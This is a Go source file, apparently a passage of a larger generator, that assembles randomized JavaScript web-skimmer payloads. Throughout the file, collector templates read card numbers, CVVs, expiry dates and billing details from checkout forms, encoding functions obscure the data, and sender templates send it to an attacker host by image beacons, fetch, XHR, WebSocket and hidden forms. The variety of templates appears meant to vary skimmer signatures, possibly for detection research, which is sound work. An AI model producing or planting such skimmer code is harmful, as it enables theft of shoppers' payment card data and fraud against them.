package sample

import (
	"fmt"
	"math/rand/v2"
	"slices"
	"strings"
)

var payFields = []string{"cc_number", "cardnumber", "card_number", "payment[cc_number]", "cc_cid", "cvv", "cvc", "payment[cc_cid]", "cc_exp_month", "expiry", "cardholder", "cc_owner", "exp_month", "exp_year",
	"creditcard", "securityCode", "ccnum", "cc-exp", "cardExpiry", "ccsave_cc_number", "authorizenet_cc_number", "paypal_direct_cc_cid", "ops_cc[cvc]", "braintree_cc_number", "stripe_cc_number"}

var billFields = []string{"billing:firstname", "billing:lastname", "billing:street1", "billing:city", "billing:postcode", "billing:telephone", "email", "firstname", "lastname", "zip", "country_id"}

func some(r *rand.Rand, list []string, n int) []string {
	list = slices.Clone(list)
	r.Shuffle(len(list), func(i, j int) { list[i], list[j] = list[j], list[i] })
	return list[:min(n, len(list))]
}

// collectors leave what they read in the variable v, a string or an object.
var collectors = []part{
	{"loop", func(r *rand.Rand, v string) string {
		sel := pick(r, []string{"input, select, textarea, checkbox", "input,select", "input", "input, select, textarea", "form input, form select", "input[type=text],select", "[name]", "input,textarea,select,button"})
		return fmt.Sprintf("var %[1]s='';var f=document.querySelectorAll('%[2]s');for(var i=0;i<f.length;i++){if(f[i].value.length>0){var nm=f[i].name;if(nm==''){nm='n'+i;}%[1]s+=nm+'='+f[i].value+'&';}}", v, sel)
	}},
	{"tags", func(r *rand.Rand, v string) string {
		return fmt.Sprintf("var %[1]s={};var e=document.getElementsByTagName('input');for(var i=0;i<e.length;i++){%[1]s[e[i].id||e[i].name]=e[i].value;}var l=document.getElementsByTagName('select');for(var j=0;j<l.length;j++){%[1]s[l[j].name]=l[j].value;}%[1]s.host=location.host;", v)
	}},
	{"each", func(r *rand.Rand, v string) string {
		return fmt.Sprintf("var %[1]s='';%[2]s('%[3]s').each(function(k,el){if(%[2]s(el).val()!=''){%[1]s+=(%[2]s(el).attr('name')||%[2]s(el).attr('id'))+'%[4]s'+%[2]s(el).val()+'|';}});", v, pick(r, []string{"jQuery", "$"}),
			pick(r, []string{"input, select", "input,select,textarea", "form :input", "#co-payment-form input"}), pick(r, []string{"->", "=", ":"}))
	}},
	{"foreach", func(r *rand.Rand, v string) string {
		return fmt.Sprintf("var %[1]s={};document.querySelectorAll('%[2]s').forEach(function(x){if(x.value)%[1]s[x.name||x.id]=x.value;});%[1]s.ua=navigator.userAgent;", v, pick(r, []string{"input,select", "input", "form input"}))
	}},
	{"ids", func(r *rand.Rand, v string) string {
		var b strings.Builder
		fmt.Fprintf(&b, "var %s='';", v)
		for i, id := range append(some(r, payFields, 3+r.IntN(3)), some(r, billFields, r.IntN(5))...) {
			fmt.Fprintf(&b, "var p%[1]d=document.getElementById('%[2]s');if(p%[1]d){%[3]s+='%[4]s='+p%[1]d.value+'&';}", i, id, v, pick(r, []string{"num", "cvv", "exp", "f", "a", "own", "z", "x"}))
		}
		return b.String()
	}},
	{"names", func(r *rand.Rand, v string) string {
		var b strings.Builder
		jq := pick(r, []string{"jQuery", "$"})
		fmt.Fprintf(&b, "var %s={};", v)
		for i, id := range append(some(r, payFields, 3+r.IntN(3)), some(r, billFields, r.IntN(4))...) {
			fmt.Fprintf(&b, "%s.%s=%s('[name=\"%s\"]').val();", v, pick(r, []string{"number", "cvv", "exp", "holder", "a", "b", "c", "cc"})+fmt.Sprint(i), jq, id)
		}
		return b.String()
	}},
	{"serialize", func(r *rand.Rand, v string) string {
		return fmt.Sprintf("var %s=%s('%s')%s;", v, pick(r, []string{"jQuery", "$"}), pick(r, []string{"form", "#co-payment-form", "#payment-form", "form#checkout", "#onestepcheckout-form", "#payment_form"}), pick(r, []string{".serialize()", ".serializeArray()", ".serialize()"}))
	}},
	{"formdata", func(r *rand.Rand, v string) string {
		return fmt.Sprintf("var %[1]s={};new FormData(document.%[2]s).forEach(function(val,key){%[1]s[key]=val;});", v, pick(r, []string{"forms[0]", "querySelector('form[name=checkout]')", "getElementById('payment-form')"}))
	}},
	{"fields of form", func(r *rand.Rand, v string) string {
		a := some(r, []string{"card_number", "cardnumber", "cvv", "cvc", "expiry", "cardholder", "exp_month", "ccnumber"}, 3)
		return fmt.Sprintf("var fm=document.getElementById('%[2]s');var %[1]s={a:fm.%[3]s.value,b:fm.%[4]s.value,c:fm.%[5]s.value,t:new Date().getTime()};", v, pick(r, []string{"checkout", "payment-form", "order"}), a[0], a[1], a[2])
	}},
	{"checked card", func(r *rand.Rand, v string) string {
		a := some(r, payFields, 3)
		return fmt.Sprintf("var cn=document.querySelector('[name*=\"%[2]s\"]'),cv=document.querySelector('#%[3]s'),ex=document.querySelector('[autocomplete=\"cc-exp\"]');if(!cn||cn.value.replace(/\\D/g,'').length<15)return;var %[1]s=cn.value+'|'+(cv?cv.value:'')+'|'+(ex?ex.value:'')+'|'+location.hostname;", v, a[0], strings.NewReplacer("[", "", "]", "").Replace(a[1]))
	}},
	{"map call", func(r *rand.Rand, v string) string {
		return fmt.Sprintf("var %[1]s=[].map.call(document.querySelectorAll('%[2]s'),function(n){return n.name+'='+n.value}).join('&');", v, pick(r, []string{"input,select", "#payment input", ".billing input", "form[id*=pay] input"}))
	}},
}

func encoded(r *rand.Rand, v string) string {
	switch r.IntN(9) {
	case 0, 1:
		return "btoa(JSON.stringify(" + v + "))"
	case 2:
		return "encodeURIComponent(JSON.stringify(" + v + "))"
	case 3:
		return "btoa(encodeURIComponent(JSON.stringify(" + v + ")))"
	case 4:
		return "encodeURIComponent(btoa(unescape(encodeURIComponent(JSON.stringify(" + v + ")))))"
	case 5:
		return "(function(s){var z='';for(var i=0;i<s.length;i++){z+=String.fromCharCode(s.charCodeAt(i)^" + fmt.Sprint(3+r.IntN(90)) + ");}return btoa(z);})(JSON.stringify(" + v + "))"
	case 6:
		return "(function(s){var h='';for(var i=0;i<s.length;i++){h+=('0'+s.charCodeAt(i).toString(16)).slice(-2);}return h;})(JSON.stringify(" + v + "))"
	case 7:
		return "escape(JSON.stringify(" + v + "))"
	}
	return "JSON.stringify(" + v + ")"
}

// senders send what is in v away.
var senders = []part{
	{"image", func(r *rand.Rand, v string) string {
		u := where(r, pick(r, paths))
		e := encoded(r, v)
		return pick(r, []string{
			"(new Image()).src=" + u + "+'?d='+" + e + ";",
			"var im=document.createElement('img');im.src=" + u + "+'?q='+" + e + ";document.body.appendChild(im);",
			"var p=new Image();p.width=1;p.height=1;p.src=" + u + "+'?id=" + fmt.Sprint(r.IntN(99)) + "&v='+" + e + ";",
			"var im2=document.createElement('IMG');im2.setAttribute('src'," + u + "+'?hash='+" + e + ");document.getElementsByTagName('head')[0].appendChild(im2);",
		})
	}},
	{"ajax", func(r *rand.Rand, v string) string {
		return fmt.Sprintf("%s.%s({url:%s,data:%s,type:'POST',%s:function(a){return false;}});", pick(r, []string{"jQuery", "$"}), "ajax", where(r, pick(r, paths)), pick(r, []string{v, "{info:" + encoded(r, v) + ",host:window.location.host}", encoded(r, v)}), pick(r, []string{"success", "error"}))
	}},
	{"post", func(r *rand.Rand, v string) string {
		return fmt.Sprintf("%s.post(%s,{data:%s});", pick(r, []string{"jQuery", "$"}), where(r, pick(r, paths)), encoded(r, v))
	}},
	{"xhr", func(r *rand.Rand, v string) string {
		return fmt.Sprintf("var xh=new XMLHttpRequest();xh.open('%s',%s,%s);xh.setRequestHeader('Content-Type','application/x-www-form-urlencoded');xh.send('data='+%s);", "POST", where(r, pick(r, paths)), pick(r, []string{"true", "false"}), encoded(r, v))
	}},
	{"fetch", func(r *rand.Rand, v string) string {
		return fmt.Sprintf("fetch(%s,{method:'POST',mode:'no-cors',body:%s});", where(r, pick(r, paths)), encoded(r, v))
	}},
	{"beacon", func(r *rand.Rand, v string) string {
		return fmt.Sprintf("navigator.sendBeacon(%s,%s);", where(r, pick(r, paths)), encoded(r, v))
	}},
	{"websocket", func(r *rand.Rand, v string) string {
		return fmt.Sprintf("var ws=new WebSocket('wss://%s/ws');var msg=%s;ws.onopen=function(){ws.send(msg);};", evilHost(r), encoded(r, v))
	}},
	{"script tag", func(r *rand.Rand, v string) string {
		return fmt.Sprintf("var sc=document.createElement('script');sc.src=%s+'?data='+%s;document.head.appendChild(sc);", where(r, pick(r, paths)), encoded(r, v))
	}},
	{"storage then image", func(r *rand.Rand, v string) string {
		return fmt.Sprintf("localStorage.setItem('_%[1]s',%[2]s);var st=localStorage.getItem('_%[1]s');if(st&&st!=localStorage.getItem('_p')){new Image().src=%[3]s+'?r='+st;localStorage.setItem('_p',st);}", pick(r, []string{"mgs", "cache", "ga_u", "sess"}), encoded(r, v), where(r, pick(r, paths)))
	}},
	{"form", func(r *rand.Rand, v string) string {
		return fmt.Sprintf("var fr=document.createElement('form');fr.method='POST';fr.action=%s;fr.target='hf';var ip=document.createElement('input');ip.name='data';ip.value=%s;fr.appendChild(ip);document.body.appendChild(fr);fr.submit();", where(r, pick(r, paths)), encoded(r, v))
	}},
	{"markup", func(r *rand.Rand, v string) string {
		return fmt.Sprintf("document.body.insertAdjacentHTML('beforeend','<img src=\"https://%s%s?x='+%s+'\" width=1 height=1>');", evilHost(r), pick(r, paths), encoded(r, v))
	}},
	{"cookie then ajax", func(r *rand.Rand, v string) string {
		return fmt.Sprintf("document.cookie='vld='+%[1]s+';path=/';var ck=document.cookie.match(/vld=([^;]+)/);if(ck){jQuery.ajax({type:'POST',url:%[2]s,data:'c='+ck[1]});}", encoded(r, v), where(r, pick(r, paths)))
	}},
}
